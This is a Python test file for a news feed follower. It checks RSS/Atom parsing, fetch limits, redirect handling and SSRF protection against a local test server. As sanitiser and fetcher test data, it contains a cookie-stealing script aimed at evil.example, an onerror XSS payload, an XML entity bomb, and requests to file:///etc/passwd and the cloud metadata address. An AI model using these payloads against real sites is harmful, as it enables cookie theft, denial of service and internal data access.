"""Following feeds (``python -m index follow``, :mod:`index.feeds`): parsing, fetching within
limits, and passes over a real HTTP server on loopback into a real Chroma with the real model."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time

import pytest

from index import open_index
from index.feeds import (
    USER_AGENT,
    FeedError,
    FeedList,
    FeedStateError,
    FetchError,
    FetchOptions,
    FollowOptions,
    follow_once,
    parse_feed,
)
from index.feeds.fetch import Fetcher
from index.feeds.parse import plain_text
from tests.conftest import ROOT
from tests.fixtures.feeds import FeedServer, Route, atom, page, rss

RSS_TYPE = "application/rss+xml"
ATOM_TYPE = "application/atom+xml"
FAST = FetchOptions(timeout=1.0, host_delay=0.0)
#: Failed pages are retried on the very next pass.
EAGER = FollowOptions(fetch=FAST, retry_base=0.0)

STORIES = {
    "tram": (
        "Tram line to reach the airport",
        "The city council voted on Wednesday to extend the tram network to the airport, a plan "
        "debated for a decade by residents and businesses alike.",
    ),
    "harbour": (
        "Harbour cranes replaced after storm",
        "Port authorities ordered six new cranes after the January storm toppled two of the old "
        "ones, halting container traffic for nine days.",
    ),
    "library": (
        "Library opens on Sundays",
        "The central library will open on Sundays from next month, after a petition signed by "
        "eleven thousand readers persuaded the board to find the money.",
    ),
    "bridge": (
        "Bridge repairs close river crossing",
        "Engineers closed the old stone bridge for repairs expected to last until the autumn, "
        "sending traffic on a twelve kilometre detour.",
    ),
}


def story_page(key: str, server: FeedServer, *, version: str = "", path: str = "") -> bytes:
    """The article page of one of :data:`STORIES`, canonical at ``path`` (default ``/news/KEY``)."""
    title, lead = STORIES[key]
    more = [
        f"{lead} {version}".strip(),
        "Officials said the decision followed months of consultation with the districts most "
        "affected, and that a detailed timetable would be published before the end of the year.",
        "Critics argued the costs had been underestimated, pointing to earlier projects in the "
        "region that ran years late and far over their budgets.",
    ]
    return page(
        title,
        more,
        site="The Riverside Courier",
        published="2024-03-05T09:00:00Z",
        canonical=server.url(path or f"/news/{key}"),
        author="Ada Example",
    )


@pytest.fixture
def server():
    with FeedServer() as s:
        yield s


@pytest.fixture
def index(settings, real_embedder):
    return open_index(settings, embedder=real_embedder)


def page_requests(server: FeedServer) -> int:
    return sum(n for path, n in server.requests.items() if path.startswith("/news/"))


# --- parsing -------------------------------------------------------------------------------------


def test_rss_items_keys_links_dates_and_text():
    doc = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
  <title>Courier &amp; Post</title><link>https://courier.example/</link>
  <item><title>First</title><link>/news/1</link>
    <guid isPermaLink="true">https://courier.example/news/1</guid>
    <pubDate>Tue, 05 Mar 2024 23:30:00 -0500</pubDate>
    <description>&lt;p&gt;Short &lt;b&gt;teaser&lt;/b&gt;&lt;/p&gt;</description>
    <content:encoded><![CDATA[<p>The full text, with <i>markup</i>.</p>]]></content:encoded>
    <dc:creator>Ada Example</dc:creator></item>
  <item><title>Second</title><link>https://courier.example/news/2</link>
    <guid isPermaLink="false">2</guid></item>
  <item><title>No guid</title><link>https://courier.example/news/3</link></item>
  <item><title>Nothing to key on</title></item>
</channel></rss>"""
    feed = parse_feed(doc, "https://courier.example/rss.xml")
    assert feed.title == "Courier & Post"
    first, second, third = feed.items  # the item with neither guid nor link is left out
    assert first.key == "https://courier.example/news/1"
    assert first.link == "https://courier.example/news/1"  # relative link resolved
    assert first.summary == "The full text, with markup."  # content:encoded over description
    assert first.author == "Ada Example"
    assert str(first.day) == "2024-03-05"  # the day in the feed's own time zone
    assert first.version == "Tue, 05 Mar 2024 23:30:00 -0500"
    # A bare guid is unique only within its feed: qualified with the feed's address.
    assert second.key == "https://courier.example/rss.xml#2"
    assert third.key == third.link == "https://courier.example/news/3"


def test_atom_entries_by_text_construct_type():
    doc = atom(
        "Wire <service>",
        [
            {
                "id": "tag:wire.example,2024:1",
                "title": "Prices < wages, for once",
                "link": "https://wire.example/a/1",
                "published": "2024-02-29T23:00:00Z",
                "updated": "2024-03-01T08:00:00Z",
                "summary": "<p>Prices <em>fell</em> &amp; wages rose.</p>",
                "author": "Bo Writer",
            }
        ],
    )
    feed = parse_feed(doc, "https://wire.example/atom.xml")
    assert feed.title == "Wire <service>"  # type text: literal, not markup
    (entry,) = feed.items
    assert entry.key == "tag:wire.example,2024:1"
    assert entry.title == "Prices < wages, for once"
    assert entry.summary == "Prices fell & wages rose."
    assert entry.version == "2024-03-01T08:00:00Z"  # updated wins over published
    assert str(entry.day) == "2024-02-29"
    assert entry.author == "Bo Writer"


@pytest.mark.parametrize(
    ("doc", "reason"),
    [
        (b"<rss><channel><item><title>cut off", "malformed XML"),
        (
            b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            b'<!ENTITY lol2 "&lol;&lol;&lol;">]><rss><channel><title>&lol2;</title>'
            b"</channel></rss>",
            "refused",
        ),
        (b"<html><body>not a feed</body></html>", "not an RSS 2.0 or Atom feed"),
    ],
)
def test_bad_documents_are_refused_with_a_reason(doc, reason):
    with pytest.raises(FeedError, match=reason):
        parse_feed(doc, "https://x.example/feed")


def test_feed_html_becomes_plain_text():
    dirty = (
        '<p>Council votes</p><script>alert("x")</script><style>p{}</style>'
        "<img src=x onerror=alert(1)>&amp;lt;b&amp;gt; stays text\u009b2J\u0007"
    )
    assert plain_text(dirty) == "Council votes\n&lt;b&gt; stays text2J"  # C1/C0 controls gone
    assert plain_text("a < b & c", markup=False) == "a < b & c"


# --- fetching ------------------------------------------------------------------------------------


def test_fetch_limits_redirects_and_manners(server):
    server.routes["/big"] = Route(b"<html>" + b"x" * 5000)
    server.routes["/hang"] = Route(b"<html>late</html>", hang=30)
    server.routes["/loop"] = Route(location="/loop")
    server.routes["/to-ftp"] = Route(location="ftp://x.example/feed")  # urllib would follow
    server.routes["/ok"] = Route(b"<html>fine</html>")
    fetcher = Fetcher(FetchOptions(timeout=0.5, max_bytes=1000, host_delay=0.2, max_redirects=3))
    with pytest.raises(FetchError, match="too big"):
        fetcher.fetch(server.url("/big"), allow_private=True)
    started = time.monotonic()
    with pytest.raises(FetchError, match="timed out"):
        fetcher.fetch(server.url("/hang"), allow_private=True)
    assert time.monotonic() - started < 5
    with pytest.raises(FetchError, match="redirect"):
        fetcher.fetch(server.url("/loop"), allow_private=True)
    assert server.requests["/loop"] == 4  # the first request and three redirects, then it stops
    with pytest.raises(FetchError, match="non-http"):
        fetcher.fetch(server.url("/to-ftp"), allow_private=True)
    with pytest.raises(FetchError, match="only http and https"):
        fetcher.fetch("file:///etc/passwd")
    with pytest.raises(FetchError, match="404"):
        fetcher.fetch(server.url("/absent"), allow_private=True)
    # The per-host pause: three requests to one host start at least 0.2 s apart.
    started = time.monotonic()
    for _ in range(3):
        assert fetcher.fetch(server.url("/ok"), allow_private=True).body == b"<html>fine</html>"
    assert time.monotonic() - started >= 0.4
    assert {h["User-Agent"] for _, h in server.headers} == {USER_AGENT}
    assert USER_AGENT.startswith("newsqa/") and USER_AGENT.endswith("(+feed follower)")


def test_private_addresses_are_refused_unless_allowed_on_every_hop(server, monkeypatch):
    """A loopback server stands in for the network newsqa runs in; one path of it is made to
    count as a public host, as a feed on the internet would be."""
    from index.feeds import fetch as fetch_module

    real = fetch_module._private_host
    monkeypatch.setattr(
        fetch_module,
        "_private_host",
        lambda url: None if "/public/" in url else real(url),
    )
    server.routes["/public/feed-page"] = Route(location=server.url("/admin"))
    server.routes["/public/plain"] = Route(b"<html>public</html>")
    server.routes["/admin"] = Route(b"<html>secret</html>")
    fetcher = Fetcher(FetchOptions(host_delay=0))
    assert fetcher.fetch(server.url("/public/plain")).body == b"<html>public</html>"
    with pytest.raises(FetchError, match=r"refused: 127\.0\.0\.1 is a private or local address"):
        fetcher.fetch(server.url("/admin"))
    # A public page redirecting inside is refused at the redirect, before it is requested.
    with pytest.raises(FetchError, match="redirect refused"):
        fetcher.fetch(server.url("/public/feed-page"))
    assert server.requests.get("/admin", 0) == 0
    assert fetcher.fetch(server.url("/public/feed-page"), allow_private=True).body == (
        b"<html>secret</html>"
    )
    for address in ("http://localhost/x", "http://169.254.169.254/latest", "http://10.1.2.3/"):
        with pytest.raises(FetchError, match="refused"):
            fetcher.fetch(address)
    assert fetch_module.is_local_address(server.url("/admin"))
    assert fetch_module.is_local_address("feeds/courier.xml")  # a file on this machine
    assert not fetch_module.is_local_address(server.url("/public/feed"))


def test_a_public_feed_cannot_make_the_follower_fetch_a_private_page(server, index, monkeypatch):
    from index.feeds import fetch as fetch_module

    real = fetch_module._private_host
    monkeypatch.setattr(
        fetch_module,
        "_private_host",
        lambda url: None if "/public/" in url else real(url),
    )
    server.routes["/admin/tram"] = Route(story_page("tram", server))
    server.routes["/public/harbour"] = Route(story_page("harbour", server))
    server.routes["/public/rss"] = Route(
        rss(
            "Courier RSS",
            [
                {"title": "Tram", "link": server.url("/admin/tram"), "guid": "tram-1"},
                {"title": "Harbour", "link": server.url("/public/harbour"), "guid": "harbour-1"},
            ],
        ),
        content_type=RSS_TYPE,
    )
    report = follow_once(index, [server.url("/public/rss")], EAGER)
    assert server.requests.get("/admin/tram", 0) == 0
    ((failure,),) = [report.failures]
    assert failure.link == server.url("/admin/tram") and "refused" in failure.error
    assert [i.title for i in report.items] == [STORIES["harbour"][0]]


# --- passes into a real index --------------------------------------------------------------------


def test_rss_and_atom_ingested_once_then_conditional_get_fetches_nothing(server, index, settings):
    for key in ("tram", "harbour", "library"):
        server.routes[f"/news/{key}"] = Route(story_page(key, server))
    # The bridge story moved: its old address redirects to the new one.
    server.routes["/old/bridge"] = Route(location=server.url("/news/bridge"))
    server.routes["/news/bridge"] = Route(story_page("bridge", server))
    server.routes["/rss"] = Route(
        rss(
            "Courier RSS",
            [
                {"title": "Tram", "link": server.url("/news/tram"), "guid": "tram-1",
                 "guid_permalink": "false", "pubDate": "Tue, 05 Mar 2024 09:00:00 GMT"},
                {"title": "Harbour", "link": server.url("/news/harbour"),
                 "guid": server.url("/news/harbour")},
                {"title": "Bridge", "link": server.url("/old/bridge"),
                 "guid": server.url("/old/bridge")},
            ],
        ),
        content_type=RSS_TYPE,
        etag='"rss-1"',
    )  # fmt: skip
    server.routes["/atom"] = Route(
        atom(
            "Courier Atom",
            [
                {"id": "tag:courier,2024:library", "title": "Library",
                 "link": server.url("/news/library"), "updated": "2024-03-05T09:00:00Z"},
                # The same story as the RSS feed's harbour item (same guid): ingested once.
                {"id": server.url("/news/harbour"), "title": "Harbour",
                 "link": server.url("/news/harbour")},
            ],
        ),
        content_type=ATOM_TYPE,
        last_modified="Tue, 05 Mar 2024 09:00:00 GMT",
    )  # fmt: skip
    feeds = [server.url("/rss"), server.url("/atom")]

    first = follow_once(index, feeds, EAGER)
    assert first.ok, (first.failures, first.feeds)
    rss_outcome, atom_outcome = first.feeds
    assert (rss_outcome.status, rss_outcome.new) == ("read", 3)
    assert (atom_outcome.new, atom_outcome.duplicates) == (1, 1)
    assert first.ingest is not None and first.ingest.added == 4
    assert server.requests["/news/harbour"] == 1
    assert first.pages_requested == 4
    # The stable id is the guid, qualified by the feed when it is a bare one.
    tram = index.get_article(server.url("/rss") + "#tram-1")
    assert tram is not None
    info, text = tram
    assert info.title == STORIES["tram"][0]
    assert info.source == "The Riverside Courier"
    assert str(info.published) == "2024-03-05"
    assert info.author == "Ada Example"
    assert info.url == server.url("/news/tram")
    assert "extend the tram network to the airport" in text
    assert "All rights reserved" not in text  # the page's footer is not the article
    bridge, _ = index.get_article(server.url("/old/bridge"))
    assert bridge.url == server.url("/news/bridge")  # the redirect was followed
    assert index.count_articles() == 4

    # Second pass: both feeds answer 304 to the validators they gave; no page is asked for.
    pages_before = page_requests(server) + server.requests["/old/bridge"]
    second = follow_once(index, None, EAGER)  # None: every followed feed
    assert [f.status for f in second.feeds] == ["not modified", "not modified"]
    assert second.ingest is None and second.pages_requested == 0
    assert page_requests(server) + server.requests["/old/bridge"] == pages_before
    conditional = [h for path, h in server.headers if path in ("/rss", "/atom")][2:]
    assert conditional[0]["If-None-Match"] == '"rss-1"'
    assert conditional[1]["If-Modified-Since"] == "Tue, 05 Mar 2024 09:00:00 GMT"

    # A feed served without validators is read in full, and its known items still cost nothing.
    server.routes["/rss"].etag = ""
    third = follow_once(index, [server.url("/rss")], EAGER)
    assert (third.feeds[0].status, third.feeds[0].unchanged) == ("read", 3)
    assert third.pages_requested == 0
    assert page_requests(server) + server.requests["/old/bridge"] == pages_before

    status = {s.url: s for s in FeedList(settings.data_dir).status()}
    assert status[server.url("/rss")].title == "Courier RSS"
    assert status[server.url("/rss")].last_read is not None
    assert {i.title for i in status[server.url("/rss")].new_items} == {
        STORIES[k][0] for k in ("tram", "harbour", "bridge")
    }
    assert status[server.url("/atom")].last_error is None


def test_failures_are_reported_retried_and_never_block_the_rest(server, index, settings):
    server.routes["/news/tram"] = Route(story_page("tram", server))
    server.routes["/news/stuck"] = Route(story_page("library", server), hang=30)
    server.routes["/news/report.pdf"] = Route(b"%PDF-1.7 ...", content_type="application/pdf")
    server.routes["/broken"] = Route(b"<rss><channel><item>", content_type=RSS_TYPE)
    items = [
        {"title": "Tram", "link": server.url("/news/tram"), "guid": server.url("/news/tram")},
        {"title": "Gone", "link": server.url("/news/gone"), "guid": server.url("/news/gone")},
        {"title": "Stuck", "link": server.url("/news/stuck"), "guid": server.url("/news/stuck")},
        {"title": "PDF", "link": server.url("/news/report.pdf"), "guid": "urn:x:pdf"},
    ]
    server.routes["/rss"] = Route(rss("Courier", items), content_type=RSS_TYPE, etag='"1"')
    feeds = [server.url("/broken"), server.url("/rss")]
    options = FollowOptions(fetch=FetchOptions(timeout=0.5, host_delay=0.0), retry_base=0.0)

    started = time.monotonic()
    first = follow_once(index, feeds, options)
    assert time.monotonic() - started < 20  # the hanging page cost its timeout, not 30 s
    broken, good = first.feeds
    assert broken.status == "failed" and "malformed XML" in broken.error
    assert good.new == 4
    assert first.ingest is not None and first.ingest.added == 1
    reasons = {f.link.rsplit("/", 1)[1]: f.error for f in first.failures}
    assert reasons == {
        "gone": "HTTP 404 Not Found",
        "stuck": "timed out after 0.5 s",
        "report.pdf": "not HTML (content type application/pdf)",
    }
    assert not first.ok
    status = {s.url: s for s in FeedList(settings.data_dir).status()}
    assert "malformed XML" in status[server.url("/broken")].last_error
    assert status[server.url("/rss")].waiting == 3

    # The missing page appears; the next pass retries the failures though the feed is a 304.
    server.routes["/news/gone"] = Route(story_page("harbour", server, path="/news/gone"))
    backoff = FollowOptions(fetch=options.fetch, retry_base=3600.0)
    second = follow_once(index, feeds, backoff)
    assert second.feeds[1].status == "not modified"
    assert server.requests["/news/gone"] == 2
    assert second.ingest is not None and second.ingest.added == 1
    assert index.get_article(server.url("/news/gone")) is not None
    retried = {f.link.rsplit("/", 1)[1]: f for f in second.failures}
    assert retried.keys() == {"stuck", "report.pdf"}
    assert retried["stuck"].attempts == 2
    assert retried["stuck"].next_try >= time.time() + 7000  # 3600 s, doubled for the 2nd failure

    # Not due yet: the third pass leaves them alone.
    third = follow_once(index, feeds, backoff)
    assert server.requests["/news/stuck"] == 2 and not third.failures
    assert server.requests["/news/tram"] == 1


def test_changed_item_is_fetched_again_and_replaces_its_article(server, index):
    for key in ("tram", "harbour"):
        server.routes[f"/news/{key}"] = Route(story_page(key, server))

    def publish(tram_date: str, etag: str) -> None:
        server.routes["/rss"] = Route(
            rss(
                "Courier",
                [
                    {"title": "Tram", "link": server.url("/news/tram"), "guid": "urn:tram",
                     "pubDate": tram_date},
                    {"title": "Harbour", "link": server.url("/news/harbour"),
                     "guid": "urn:harbour", "pubDate": "Tue, 05 Mar 2024 09:00:00 GMT"},
                ],
            ),
            content_type=RSS_TYPE,
            etag=etag,
        )  # fmt: skip

    publish("Tue, 05 Mar 2024 09:00:00 GMT", '"1"')
    first = follow_once(index, [server.url("/rss")], EAGER)
    assert first.ingest is not None and first.ingest.added == 2
    assert "Update:" not in index.get_article("urn:tram")[1]

    # The story is corrected: same guid, a new date in the feed, new text on the page.
    server.routes["/news/tram"] = Route(
        story_page("tram", server, version="Update: the vote was postponed to April.")
    )
    publish("Wed, 06 Mar 2024 15:00:00 GMT", '"2"')
    second = follow_once(index, [server.url("/rss")], EAGER)
    outcome = second.feeds[0]
    assert (outcome.changed, outcome.unchanged, outcome.new) == (1, 1, 0)
    assert server.requests["/news/tram"] == 2 and server.requests["/news/harbour"] == 1
    assert second.ingest is not None and second.ingest.updated == 1
    assert [(i.article_id, i.change) for i in second.items] == [("urn:tram", "changed")]
    assert "the vote was postponed to April" in index.get_article("urn:tram")[1]
    assert index.count_articles() == 2


def test_markup_in_a_feed_is_text_never_code(server, index):
    # An item without a page: its summary is the article, and it arrives full of markup.
    summary = (
        "<p>The harbour board met on Monday <b>to approve</b> the new cranes.</p>"
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        "<img src=x onerror=alert(1)><p>Work starts in May, the board said in a statement.</p>"
    )
    server.routes["/rss"] = Route(
        rss(
            "Courier",
            [{"title": "<i>Cranes</i> approved \u009b2J", "guid": "urn:cranes",
              "description": summary}],
        ),
        content_type=RSS_TYPE,
    )  # fmt: skip
    report = follow_once(index, [server.url("/rss")], EAGER)
    assert report.ok and report.ingest is not None and report.ingest.added == 1
    info, text = index.get_article("urn:cranes")
    assert info.title == "Cranes approved 2J"
    assert text == (
        "The harbour board met on Monday to approve the new cranes.\n"
        "Work starts in May, the board said in a statement."
    )
    assert not any(bad in text for bad in ("<", "script", "cookie", "onerror"))


def test_state_is_written_whole_and_a_damaged_one_is_kept(server, index, settings):
    server.routes["/rss"] = Route(rss("Courier", []), content_type=RSS_TYPE)
    follow_once(index, [server.url("/rss")], EAGER)
    folder = settings.data_dir / "feeds"
    assert json.loads((folder / "state.json").read_text())["version"] == 1
    assert sorted(p.name for p in folder.iterdir()) == ["state.json", "state.lock"]
    (folder / "state.json").write_text("{not json")
    with pytest.raises(FeedStateError, match="move it away"):
        follow_once(index, [server.url("/rss")], EAGER)
    assert (folder / "state.json").read_text() == "{not json"
    with pytest.raises(FeedError, match="http or https"):
        FeedList(settings.data_dir / "other").add("ftp://x.example/feed")
    with pytest.raises(FeedError, match="no host name"):
        FeedList(settings.data_dir / "other").add("https:///feed")
    with pytest.raises(FeedError, match="no such feed file"):
        FeedList(settings.data_dir / "other").add("missing.xml")


def test_a_followed_file_that_went_away_can_be_unfollowed(tmp_path):
    feed = tmp_path / "local.xml"
    feed.write_text("<rss version='2.0'><channel><title>Local</title></channel></rss>")
    feeds = FeedList(tmp_path / "data")
    feeds.add(str(feed))
    feed.unlink()
    assert feeds.remove(str(feed))
    assert feeds.urls() == []
    assert not feeds.remove(str(feed))


# --- the command line ----------------------------------------------------------------------------


def test_cli_once_end_to_end(server, settings, tmp_path, capsys):
    from index.__main__ import main

    server.routes["/news/tram"] = Route(story_page("tram", server))
    server.routes["/news/harbour"] = Route(story_page("harbour", server))
    server.routes["/rss"] = Route(
        rss("Courier", [{"title": "Tram", "link": server.url("/news/tram"), "guid": "urn:t"}]),
        content_type=RSS_TYPE,
        etag='"1"',
    )
    local = tmp_path / "saved-feed.xml"
    local.write_bytes(
        atom("Saved", [{"id": "urn:h", "title": "Harbour", "link": server.url("/news/harbour")}])
    )
    args = ["follow", "--once", "-q", "--delay", "0", server.url("/rss"), str(local)]

    assert main(args) == 0
    out = capsys.readouterr().out
    assert f"feed {server.url('/rss')}: 1 items: 1 new" in out
    assert f"feed {local}: 1 items: 1 new" in out
    assert f"new: {STORIES['tram'][0]} <{server.url('/news/tram')}>" in out
    assert "2 feeds (0 failed), 2 pages fetched, 0 failed; 2 added" in out

    # Again, with no feed named: the remembered ones; nothing changed, nothing fetched.
    assert main(["follow", "--once", "-q", "--delay", "0"]) == 0
    out = capsys.readouterr().out
    assert out.count(": not modified") == 2
    assert "0 pages fetched" in out
    assert page_requests(server) == 2

    # A followed file that is gone is that feed's failure; the other feed is still read.
    local.unlink()
    server.routes["/rss"] = Route(b"<rss", content_type=RSS_TYPE)
    assert main(["follow", "--once", "-q", "--delay", "0"]) == 1
    err = capsys.readouterr().err
    assert f"error: feed {server.url('/rss')}: malformed XML" in err
    assert f"error: feed {local}: no such file" in err


def test_cli_loop_reads_again_and_stops_cleanly_on_ctrl_c(server, settings):
    server.routes["/rss"] = Route(rss("Courier", []), content_type=RSS_TYPE, etag='"1"')
    env = {**os.environ, "NEWSQA_DATA_DIR": str(settings.data_dir)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "index", "follow", "-q", "--interval", "0.2", server.url("/rss")],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while server.requests["/rss"] < 3 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert server.requests["/rss"] >= 3, "the loop did not read the feed again"
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, err
    assert "following 1 feeds every 0.2 s" in out
    assert "not modified" in out
    assert "stopped" in err and "Traceback" not in err
